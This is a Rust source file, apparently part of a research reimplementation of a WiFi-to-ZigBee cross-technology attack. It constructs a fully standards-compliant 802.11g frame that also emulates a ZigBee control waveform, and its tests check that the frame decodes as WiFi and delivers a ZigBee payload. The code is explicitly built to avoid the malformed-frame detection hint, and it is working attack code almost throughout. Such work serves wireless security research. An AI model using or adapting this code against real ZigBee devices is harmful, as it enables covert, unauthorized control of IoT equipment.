//! The full-stack attack (extension beyond the paper): one RF transmission
//! that is simultaneously a **standards-complete 802.11g frame** — PLCP
//! preamble, SIGNAL field, SERVICE bits, tail bits, everything a stock WiFi
//! receiver expects — **and** a ZigBee controller.
//!
//! The paper's attacker (Sec. V) emits bare OFDM payload symbols; a WiFi
//! sniffer would see malformed transmissions, which is itself a detection
//! hint. This attacker instead *shapes a legal frame around the emulation*:
//!
//! 1. The ZigBee band covers only 7 of the 48 data subcarriers, so the
//!    coded-bit positions feeding the other 41 are don't-cares.
//! 2. The SERVICE and tail bits must descramble to zero — a per-step *input
//!    constraint* on the trellis.
//! 3. A constrained-Viterbi pass ([`ctc_wifi::convolutional::decode_with`])
//!    finds the PSDU whose stock transmission best realizes the desired
//!    in-band spectrum under both conditions.
//!
//! The result decodes in a standard [`ctc_wifi::WifiReceiver`] *and*
//! commands the ZigBee device.

use crate::attack::quantizer::quantize_points;
use crate::attack::spectrum::{block_spectra, select_subcarriers, COARSE_THRESHOLD};
use ctc_dsp::Complex;
use ctc_wifi::convolutional::{decode_with, Rate};
use ctc_wifi::interleaver::{permutation, N_BPSC_64QAM, N_CBPS_64QAM};
use ctc_wifi::ofdm::{bin_to_subcarrier, data_subcarrier_indices, SYMBOL_LEN};
use ctc_wifi::qam::{demap_64qam, NORM_64QAM};
use ctc_wifi::scrambler::Scrambler;
use ctc_wifi::WifiTransmitter;
use ctc_zigbee::frontend::{capture, embed};

/// Data bits per OFDM symbol at 64-QAM rate 3/4.
const N_DBPS: usize = 216;

/// Output of the full-frame attack.
#[derive(Debug, Clone, PartialEq)]
pub struct FullFrameEmulation {
    /// The complete 20 MHz WiFi frame: PLCP + SIGNAL + data field.
    pub wifi_waveform: Vec<Complex>,
    /// The PSDU a standard WiFi receiver recovers from the frame.
    pub psdu: Vec<u8>,
    /// Hamming gap between the desired in-band coded bits and the nearest
    /// constrained codeword.
    pub codeword_distance: u32,
    /// Number of data-field OFDM symbols (first carries SERVICE, rest the
    /// emulation).
    pub data_symbols: usize,
    /// Sample offset (20 MHz) where the ZigBee emulation begins.
    pub zigbee_offset: usize,
}

/// The full-frame attacker. ZigBee channel 17 (2435 MHz) inside a 2440 MHz
/// 802.11g transmission, as in the paper's Sec. V-A4 deployment.
#[derive(Debug, Clone, PartialEq)]
pub struct FullFrameAttack {
    kept_subcarriers: usize,
    wifi: WifiTransmitter,
    zigbee_center_hz: f64,
    zigbee_rate_hz: f64,
}

impl Default for FullFrameAttack {
    fn default() -> Self {
        Self::new()
    }
}

impl FullFrameAttack {
    /// Defaults matching [`crate::attack::Emulator`].
    pub fn new() -> Self {
        FullFrameAttack {
            kept_subcarriers: 7,
            wifi: WifiTransmitter::new(),
            zigbee_center_hz: 2.435e9,
            zigbee_rate_hz: 4.0e6,
        }
    }

    /// Runs the attack on an observed 4 MHz ZigBee waveform.
    ///
    /// # Panics
    ///
    /// Panics if the emulation would exceed the 4095-byte PSDU limit
    /// (frames longer than ~75 ZigBee symbols; the paper's control frames
    /// are far shorter).
    pub fn emulate(&self, observed_4mhz: &[Complex]) -> FullFrameEmulation {
        let mut wide = embed(
            observed_4mhz,
            self.zigbee_center_hz,
            self.zigbee_rate_hz,
            self.wifi.center_frequency_hz(),
            self.wifi.sample_rate_hz(),
        )
        .expect("factor 5 is nonzero");
        while !wide.len().is_multiple_of(SYMBOL_LEN) {
            wide.push(Complex::ZERO);
        }
        // One extra block of margin: the receiver's sync lands a little
        // after the nominal PLCP offset (filter transients), and the final
        // ZigBee symbol must not fall off the end of the frame.
        wide.extend(std::iter::repeat_n(Complex::ZERO, SYMBOL_LEN));
        let spectra = block_spectra(&wide);
        let kept_bins = select_subcarriers(&spectra, COARSE_THRESHOLD, self.kept_subcarriers);
        let mut chosen = Vec::with_capacity(spectra.len() * kept_bins.len());
        for spec in &spectra {
            for &bin in &kept_bins {
                chosen.push(spec.components[bin]);
            }
        }
        let quantized = quantize_points(&chosen, None);
        let rescale = NORM_64QAM / quantized.alpha;

        // Frame geometry: data symbol 0 carries SERVICE (+ leading PSDU
        // bits); symbols 1..=B carry the emulation.
        let blocks = spectra.len();
        let data_symbols = blocks + 1;
        let total_bits = data_symbols * N_DBPS;
        let psdu_len = (total_bits - 16 - 6) / 8;
        assert!(
            psdu_len <= 4095,
            "emulation too long for one 802.11 frame ({psdu_len}-byte PSDU)"
        );

        // Desired coded stream with don't-cares.
        let perm = permutation(N_CBPS_64QAM, N_BPSC_64QAM);
        let data_idx = data_subcarrier_indices();
        let mut coded: Vec<Option<u8>> = vec![None; data_symbols * N_CBPS_64QAM];
        let kept_positions: Vec<Option<usize>> = kept_bins
            .iter()
            .map(|&bin| {
                let sc = bin_to_subcarrier(bin);
                data_idx.iter().position(|&k| k == sc)
            })
            .collect();
        for (b, _) in spectra.iter().enumerate() {
            let sym = b + 1; // data symbol carrying this block
                             // Interleaved-bit view of this symbol. Out-of-band data
                             // subcarriers are pinned to minimum-amplitude QAM points
                             // (|level| = 1 on both axes, signs free): their energy sits just
                             // outside the ZigBee channel filter and would otherwise leak
                             // through the skirt as chip noise. In Gray coding |level| = 1 is
                             // `_10` per axis, so bits 1..3 and 4..6 are (1, 0) and the sign
                             // bits 0 and 3 stay don't-care.
            let mut inter: Vec<Option<u8>> = vec![None; N_CBPS_64QAM];
            for pos in 0..data_idx.len() {
                inter[pos * N_BPSC_64QAM + 1] = Some(1);
                inter[pos * N_BPSC_64QAM + 2] = Some(0);
                inter[pos * N_BPSC_64QAM + 4] = Some(1);
                inter[pos * N_BPSC_64QAM + 5] = Some(0);
            }
            // In-band subcarriers: the 6 bits of the demapped desired point.
            for (j, pos) in kept_positions.iter().enumerate() {
                if let Some(pos) = pos {
                    let desired = quantized.points[b * kept_bins.len() + j] * rescale;
                    let bits = demap_64qam(desired);
                    for (bit_i, &bit) in bits.iter().enumerate() {
                        inter[pos * N_BPSC_64QAM + bit_i] = Some(bit);
                    }
                }
            }
            // Deinterleave the don't-care mask: coded[k] = inter[perm[k]].
            for k in 0..N_CBPS_64QAM {
                coded[sym * N_CBPS_64QAM + k] = inter[perm[k]];
            }
        }

        // Input constraints: SERVICE (first 16) and tail (after the PSDU)
        // descramble to zero, i.e. the trellis input equals the keystream.
        let mut scrambler = Scrambler::new(0x7F);
        let keystream: Vec<u8> = (0..total_bits).map(|_| scrambler.next_bit()).collect();
        let mut constraints: Vec<Option<u8>> = vec![None; total_bits];
        for (i, c) in constraints.iter_mut().take(16).enumerate() {
            *c = Some(keystream[i]);
        }
        let tail_at = 16 + 8 * psdu_len;
        for i in tail_at..tail_at + 6 {
            constraints[i] = Some(keystream[i]);
        }

        let found = decode_with(&coded, Rate::ThreeQuarters, &constraints)
            .expect("whole symbols align with the puncturing period");
        let data_bits = Scrambler::new(0x7F).scramble(&found.data);
        debug_assert!(data_bits[..16].iter().all(|&b| b == 0), "SERVICE not zero");

        // PSDU bytes (LSB first), then the stock frame transmission.
        let mut psdu = Vec::with_capacity(psdu_len);
        for byte_i in 0..psdu_len {
            let base = 16 + byte_i * 8;
            let mut byte = 0u8;
            for bit in 0..8 {
                byte |= data_bits[base + bit] << bit;
            }
            psdu.push(byte);
        }
        let wifi_waveform = self
            .wifi
            .transmit_frame(&psdu)
            .expect("psdu_len validated above");

        FullFrameEmulation {
            wifi_waveform,
            psdu,
            codeword_distance: found.distance,
            data_symbols,
            zigbee_offset: ctc_wifi::plcp::PLCP_LEN + SYMBOL_LEN,
        }
    }

    /// The ZigBee front-end's 4 MHz view of the full frame (preamble and
    /// SERVICE symbol included — the receiver's own sync must find the
    /// emulated ZigBee preamble inside).
    pub fn received_at_zigbee(&self, emulation: &FullFrameEmulation) -> Vec<Complex> {
        capture(
            &emulation.wifi_waveform,
            self.wifi.center_frequency_hz(),
            self.wifi.sample_rate_hz(),
            self.zigbee_center_hz,
            self.zigbee_rate_hz,
        )
        .expect("factor 5 is nonzero")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ctc_wifi::WifiReceiver;
    use ctc_zigbee::{Receiver, Transmitter};

    fn observed() -> Vec<Complex> {
        Transmitter::new().transmit_payload(b"00000").unwrap()
    }

    #[test]
    fn frame_decodes_on_standard_wifi_receiver() {
        let attack = FullFrameAttack::new();
        let em = attack.emulate(&observed());
        let r = WifiReceiver::new().receive(&em.wifi_waveform).unwrap();
        assert_eq!(r.psdu_len, em.psdu.len());
        assert_eq!(r.psdu, em.psdu, "WiFi side must decode the exact PSDU");
        assert_eq!(r.viterbi_distance, 0);
    }

    #[test]
    fn same_frame_commands_the_zigbee_device() {
        let attack = FullFrameAttack::new();
        let em = attack.emulate(&observed());
        let at_zigbee = attack.received_at_zigbee(&em);
        // The emulation starts after PLCP + SERVICE symbol: 480 samples at
        // 20 MHz = 96 at 4 MHz; search a little past that.
        let r = Receiver::usrp().with_sync_search(160).receive(&at_zigbee);
        assert_eq!(
            r.payload(),
            Some(&b"00000"[..]),
            "distances: {:?}",
            r.hamming_distances
        );
    }

    #[test]
    fn service_and_tail_constraints_hold() {
        let attack = FullFrameAttack::new();
        let em = attack.emulate(&observed());
        // Reconstruct data bits from the PSDU and check framing invariants
        // indirectly: a stock WifiReceiver already validated SIGNAL parity
        // and length; here confirm geometry.
        assert_eq!(em.data_symbols, em.wifi_waveform.len() / 80 - 5);
        assert_eq!(em.zigbee_offset, 480);
    }

    #[test]
    fn constrained_distance_exceeds_unconstrained_bitchain() {
        // The frame structure costs fidelity relative to the unconstrained
        // bit-chain attack (which ignores SERVICE/tail and symbol framing).
        use crate::attack::{Emulator, SpectralMode, SynthesisMode};
        let obs = observed();
        let bitchain = Emulator::new()
            .with_spectral_mode(SpectralMode::CarrierAllocated)
            .with_synthesis_mode(SynthesisMode::BitChain)
            .emulate(&obs);
        let full = FullFrameAttack::new().emulate(&obs);
        // The unconstrained bit-chain attacker must match all 288 bits per
        // symbol and pays a large distance; the full-frame attacker's
        // don't-care mask (41 of 48 subcarriers sign-free) leaves enough
        // freedom that the in-band bits are typically matched exactly.
        assert!(bitchain.codeword_distance.unwrap() > 0);
        assert!(full.codeword_distance <= bitchain.codeword_distance.unwrap());
    }
}
